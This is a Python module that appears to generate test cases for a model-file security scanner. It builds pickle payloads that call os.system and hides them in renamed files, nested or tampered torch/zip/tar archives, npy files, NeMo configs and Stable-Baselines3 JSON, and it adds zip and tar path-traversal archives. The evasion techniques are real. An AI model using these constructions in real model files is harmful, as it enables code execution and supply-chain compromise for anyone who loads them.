"""Malicious pickles in containers: compressed, archived, renamed, and under directories that lie."""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

from scanning.assembler import StackGlobal, Text, call, written
from scanning.recipe import Made, Recipe, Sentinel


def payload(it: Sentinel) -> bytes:
    return written(call("os:system", it.shell), StackGlobal)


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def tarred(members: dict[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def torch(data: bytes, name: str = "archive/data.pkl", method: int = zipfile.ZIP_STORED) -> bytes:
    """What torch.save writes, with `data` for the stream."""
    members = {name: data, "archive/byteorder": b"little", "archive/data/0": b"\0" * 64, "archive/version": b"3\n"}
    return zipped(members, method)


def npy(data: bytes, header: str = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }") -> bytes:
    said = header.encode()
    said += b" " * (-(len(said) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(said)) + said + data


def legacy(data: bytes) -> bytes:
    """Torch's format before archives: magic, protocol, machine, the object, the keys of its storages."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}]
    return b"".join(pickle.dumps(one, 2) for one in head) + data + pickle.dumps([], 2)


def _directory(data: bytes) -> int:
    return data.index(b"PK\x01\x02")


def patched(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at + len(new) :]


def wrong_crc(data: bytes) -> bytes:
    return patched(patched(data, 14, b"\xde\xad\xbe\xef"), _directory(data) + 16, b"\xde\xad\xbe\xef")


def encrypted_flag(data: bytes) -> bytes:
    return patched(patched(data, 6, b"\x01\x00"), _directory(data) + 8, b"\x01\x00")


def directory_flag(data: bytes) -> bytes:
    return patched(data, _directory(data) + 8, b"\x01\x00")


def lying_local_size(data: bytes) -> bytes:
    return patched(data, 22, b"\x01\x00\x00\x00")


def lying_local_name(data: bytes) -> bytes:
    """The local header calls it a text; the directory, which the loader asks, a stream."""
    size = struct.unpack_from("<H", data, 26)[0]
    return patched(data, 30, b"archive/read.txt".ljust(size, b"_")[:size])


def lying_method(data: bytes) -> bytes:
    return patched(data, 8, b"\x63\x00")


def without_directory(data: bytes) -> bytes:
    return data[: _directory(data)]


def hidden_from_directory(it: Sentinel) -> bytes:
    """A member that only a reader of local headers finds, before an archive that looks whole."""
    return without_directory(torch(payload(it), "evil/data.pkl")) + torch(pickle.dumps({"a": 1}))


def doubled(it: Sentinel) -> bytes:
    """Two members of one name; the first is harmless."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({"a": 1}))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("archive/data.pkl", payload(it))
    return out.getvalue()


def nested_zip(it: Sentinel, deep: int) -> bytes:
    data = zipped({"model.pkl": payload(it)})
    for number in range(deep):
        data = zipped({f"{number}.zip": data}, zipfile.ZIP_DEFLATED if number % 2 else zipfile.ZIP_STORED)
    return data


def in_storage(it: Sentinel) -> bytes:
    """The stream lies where numbers are expected, and is called data/0.pkl."""
    return zipped({"archive/data.pkl": pickle.dumps({"a": 1}), "archive/data/0.pkl": payload(it)})


def commented(it: Sentinel) -> bytes:
    data = bytearray(torch(payload(it)))
    data[-2:] = struct.pack("<H", 40)
    return bytes(data) + b"x" * 40


def _named_gzip(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile("weights.pkl", "wb", fileobj=out, mtime=0) as opened:
        opened.write(data)
    return out.getvalue()


def _small_zlib(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 9)
    return packer.compress(data) + packer.flush()


Make = Callable[[Sentinel], Made]
ARCHIVES: list[tuple[str, str, str, Make]] = [
    ("torch zip", "model.pt", "torch-zip-way", lambda it: torch(payload(it))),
    ("torch zip deflated", "model.pt", "torch-zip-way", lambda it: torch(payload(it), method=zipfile.ZIP_DEFLATED)),
    ("torch zip in text", "pytorch_model.bin", "torch-zip-way", lambda it: torch(written(call("os:system", it.shell), Text))),
    ("torch zip, stream elsewhere", "model.pt", "torch-zip-way", lambda it: torch(payload(it), "x/y/z/data.pkl")),
    ("torch zip, wrong crc", "model.pt", "torch-zip-way", lambda it: wrong_crc(torch(payload(it)))),
    ("torch zip, encrypted flag", "model.pt", "torch-zip-way", lambda it: encrypted_flag(torch(payload(it)))),
    ("torch zip, encrypted flag in the directory", "model.pt", "torch-zip-way", lambda it: directory_flag(torch(payload(it)))),
    ("torch zip, lying local size", "model.pt", "torch-zip-way", lambda it: lying_local_size(torch(payload(it)))),
    ("torch zip, lying local name", "model.pt", "torch-zip-way", lambda it: lying_local_name(torch(payload(it)))),
    ("torch zip, lying local method", "model.pt", "torch-zip-way", lambda it: lying_method(torch(payload(it)))),
    ("torch zip without directory", "model.pt", "torch-local-way", lambda it: without_directory(torch(payload(it)))),
    ("torch zip, hidden from the directory", "model.pt", "torch-local-way", hidden_from_directory),
    ("torch zip, two of one name", "model.pt", "torch-zip-way", doubled),
    ("torch zip, stream among storages", "model.pt", "torch-zip-way", in_storage),
    ("torch zip with a comment", "model.pt", "torch-zip-way", commented),
    ("torch zip after a picture", "model.png", "torch-zip-way", lambda it: b"\x89PNG\r\n\x1a\n" + b"\0" * 90 + torch(payload(it))),
    ("torch zip before rubbish", "model.pt", "torch-zip-way", lambda it: torch(payload(it)) + b"\0" * 900),
    ("torch zip called safetensors", "model.safetensors", "torch-zip-way", lambda it: torch(payload(it))),
    ("torch zip called onnx", "model.onnx", "torch-zip-way", lambda it: torch(payload(it))),
    ("pickle called txt", "README.txt", "pickle", payload),
    ("pickle called md", "README.md", "pickle", payload),
    ("pickle called json", "config.json", "pickle", payload),
    ("pickle called safetensors", "model.safetensors", "pickle", payload),
    ("pickle called gguf", "model.gguf", "pickle", payload),
    ("pickle called onnx", "model.onnx", "pickle", payload),
    ("pickle called h5", "model.h5", "pickle", payload),
    ("pickle called png", "logo.png", "pickle", payload),
    ("pickle without a suffix", "weights", "pickle", payload),
    ("pickle called bin", "pytorch_model.bin", "pickle", payload),
    ("pickle called dat", "model.dat", "pickle", payload),
    ("pickle called joblib", "model.joblib", "pickle", payload),
    ("text pickle called txt", "vocab.txt", "pickle", lambda it: written(call("os:system", it.shell), Text)),
    ("text pickle called json", "vocab.json", "pickle", lambda it: written(call("os:system", it.shell), Text)),
    ("pickle of training arguments", "training_args.bin", "pickle", payload),
    ("pickle of an optimizer", "optimizer.pt", "torch-zip-way", lambda it: torch(payload(it))),
    ("legacy torch", "model.pth", "pickle-each", lambda it: legacy(payload(it))),
    ("legacy torch, in the keys", "model.pth", "pickle-each", lambda it: legacy(pickle.dumps({"a": 1}, 2)) + payload(it)),
    ("legacy torch, in the machine", "model.pth", "pickle-each", lambda it: pickle.dumps(0x1950A86A20F9469CFC6C, 2) + payload(it)),
    ("torch tar", "model.tar", "torch-tar-way", lambda it: tarred({"storages": pickle.dumps(0), "tensors": pickle.dumps(0), "pickle": payload(it)})),
    ("torch tar called pt", "model.pt", "torch-tar-way", lambda it: tarred({"storages": pickle.dumps(0), "tensors": pickle.dumps(0), "pickle": payload(it)})),
    ("gzip", "model.pkl.gz", "gzip", lambda it: gzip.compress(payload(it), mtime=0)),
    ("gzip called pkl", "model.pkl", "gzip", lambda it: gzip.compress(payload(it), mtime=0)),
    ("gzip, two members", "model.pkl.gz", "gzip", lambda it: gzip.compress(payload(it)[:9], mtime=0) + gzip.compress(payload(it)[9:], mtime=0)),
    ("gzip with a file name", "model.pkl.gz", "gzip", lambda it: _named_gzip(payload(it))),
    ("bz2", "model.pkl.bz2", "bz2", lambda it: bz2.compress(payload(it))),
    ("bz2, two streams", "model.bz2", "bz2", lambda it: bz2.compress(payload(it)[:9]) + bz2.compress(payload(it)[9:])),
    ("xz", "model.pkl.xz", "lzma", lambda it: lzma.compress(payload(it))),
    ("lzma alone", "model.pkl.lzma", "lzma", lambda it: lzma.compress(payload(it), lzma.FORMAT_ALONE)),
    ("xz, two streams", "model.xz", "lzma", lambda it: lzma.compress(payload(it)[:9]) + lzma.compress(payload(it)[9:])),
    *[(f"zlib level {level}", "model.pkl", "zlib", lambda it, level=level: zlib.compress(payload(it), level)) for level in (0, 1, 6, 9)],
    ("zlib of a small window", "model.pkl", "zlib", lambda it: _small_zlib(payload(it))),
    ("zip in zip", "models.zip", "archives", lambda it: nested_zip(it, 1)),
    ("zip four deep", "models.zip", "archives", lambda it: nested_zip(it, 4)),
    ("zip in tar", "models.tar", "archives", lambda it: tarred({"a.zip": zipped({"m.pkl": payload(it)})})),
    ("tar in zip", "models.zip", "archives", lambda it: zipped({"a.tar": tarred({"m.pkl": payload(it)})})),
    ("tar gz", "models.tar.gz", "archives", lambda it: tarred({"m.pkl": payload(it)}, "w:gz")),
    ("gz in gz", "models.gz", "archives", lambda it: gzip.compress(gzip.compress(payload(it)))),
    ("tar gz in zip", "models.zip", "archives", lambda it: zipped({"a": tarred({"m": payload(it)}, "w:gz")})),
    ("zip of many", "models.zip", "archives", lambda it: zipped({**{f"{n}.pkl": pickle.dumps(n) for n in range(300)}, "z.pkl": payload(it)})),
    ("zip of a hidden name", "models.zip", "archives", lambda it: zipped({".cache/.x": payload(it)})),
    ("npy", "a.npy", "npy-way", lambda it: npy(payload(it))),
    ("npy called bin", "a.bin", "npy-way", lambda it: npy(payload(it))),
    ("npy of a structure", "a.npy", "npy-way", lambda it: npy(payload(it), "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }")),
    ("npy of no entries", "a.npy", "npy-way", lambda it: npy(payload(it), "{'descr': '|O', 'fortran_order': False, 'shape': (0,), }")),
    ("npz", "a.npz", "npz-way", lambda it: zipped({"w.npy": npy(b"\0" * 4, "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }"), "o.npy": npy(payload(it))})),
    ("npz deflated", "a.npz", "npz-way", lambda it: zipped({"o.npy": npy(payload(it))}, zipfile.ZIP_DEFLATED)),
    ("nemo, class", "model.nemo", "nemo-way", lambda it: tarred({"model_config.yaml": f"target:\n  _target_: os.system\n  command: {it.shell}\n".encode()})),
    ("nemo, class, gz", "model.nemo", "nemo-way", lambda it: tarred({"./model_config.yaml": f"a:\n  - _target_: subprocess.getoutput\n    cmd: {it.shell}\n".encode()}, "w:gz")),
    ("nemo, checkpoint", "model.nemo", "archives", lambda it: tarred({"model_weights.ckpt": payload(it)})),
]  # fmt: skip


def _linked(it: Sentinel) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("weights")
        link.type, link.linkname = tarfile.SYMTYPE, it.path.rpartition("/")[0]
        archive.addfile(link)
        member = tarfile.TarInfo("weights/sentinel")
        member.size = 1
        archive.addfile(member, io.BytesIO(b"x"))
    return out.getvalue()


def slips() -> Iterator[Recipe]:
    """Archives that write outside the folder they are unpacked into."""
    for named, loader, make in (
        ("zip slip", "unzip-way", lambda it: zipped({"weights.bin": b"\0" * 8, f"../../{'../' * 9}{it.path}": b"x"})),
        ("zip of an absolute path", "unzip-way", lambda it: zipped({it.path: b"x"})),
        ("tar slip", "untar", lambda it: tarred({"weights.bin": b"x", "../../sentinel": b"x"})),
        ("tar of an absolute path", "untar", lambda it: tarred({it.path: b"x"})),
        ("tar through a link", "untar", _linked),
    ):
        file = "model.zip" if loader == "unzip-way" else "model.tar"
        yield Recipe(
            id=f"slip/{named.replace(' ', '-')}", family="archives that slip", file=file, loader=loader, make=make
        )


def recipes() -> Iterator[Recipe]:
    for named, file, loader, make in ARCHIVES:
        yield Recipe(
            id=f"contained/{named.replace(',', '').replace(' ', '-')}",
            family="containers",
            file=file,
            loader=loader,
            make=make,
        )
    yield from slips()
    yield from in_words()
    yield from with_libraries()


def in_words() -> Iterator[Recipe]:
    """Pickles in base64 in the JSON of an archive, as Stable-Baselines3 keeps what JSON cannot hold."""
    for protocol, data in (
        ("protocol 0", lambda it: pickle.dumps(_Runs(it), 0)),
        ("protocol 4", lambda it: pickle.dumps(_Runs(it), 4)),
    ):
        yield Recipe(
            id=f"contained/serialized-{protocol.replace(' ', '-')}", family="containers", file="ppo.zip", loader="serialized-way",
            make=lambda it, data=data: zipped({"data": _serialized(data(it)), "_stable_baselines3_version": b"2.4.0"}),
        )  # fmt: skip


class _Runs:
    def __init__(self, it: Sentinel) -> None:
        self.it = it

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.it.shell,)


def _serialized(data: bytes) -> bytes:
    entry = {":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64.b64encode(data).decode()}
    return json.dumps({"policy_class": entry, "verbose": 0}).encode()


def with_libraries() -> Iterator[Recipe]:
    """The same opened by the libraries themselves, where they are installed."""
    for named, file, loader, make in (
        ("torch zip", "model.pt", "torch", lambda it: torch(payload(it))),
        ("torch zip, wrong crc", "model.pt", "torch", lambda it: wrong_crc(torch(payload(it)))),
        ("torch legacy", "model.pth", "torch", lambda it: legacy(payload(it))),
        ("npy", "a.npy", "numpy", lambda it: npy(payload(it))),
        ("npz", "a.npz", "numpy", lambda it: zipped({"o.npy": npy(payload(it))})),
        ("joblib", "model.joblib", "joblib", payload),
        ("joblib zlib", "model.joblib", "joblib", lambda it: zlib.compress(payload(it))),
        ("joblib gzip", "model.joblib.gz", "joblib", lambda it: gzip.compress(payload(it))),
        ("joblib bz2", "model.joblib.bz2", "joblib", lambda it: bz2.compress(payload(it))),
        ("joblib xz", "model.joblib.xz", "joblib", lambda it: lzma.compress(payload(it))),
        ("joblib lzma", "model.joblib.lzma", "joblib", lambda it: lzma.compress(payload(it), lzma.FORMAT_ALONE)),
        ("joblib lz4", "model.joblib.lz4", "joblib", _lz4),
        ("pandas", "frame.pkl", "pandas", payload),
        ("pandas gz", "frame.pkl.gz", "pandas", lambda it: gzip.compress(payload(it))),
        ("pandas zip", "frame.pkl.zip", "pandas", lambda it: zipped({"frame.pkl": payload(it)})),
        ("pandas tar", "frame.pkl.tar", "pandas", lambda it: tarred({"frame.pkl": payload(it)})),
        ("pandas zstd", "frame.pkl.zst", "pandas", _zstd),
    ):  # fmt: skip
        needs = (loader, *({"joblib lz4": ("lz4",), "pandas zstd": ("zstandard",)}.get(named, ())))
        yield Recipe(
            id=f"library/{named.replace(',', '').replace(' ', '-')}", family="containers, opened by their libraries",
            file=file, loader=loader, make=make, needs=needs,
        )  # fmt: skip


def _lz4(it: Sentinel) -> bytes:
    import lz4.frame

    return lz4.frame.compress(payload(it))


def _zstd(it: Sentinel) -> bytes:
    import zstandard

    return zstandard.compress(payload(it))
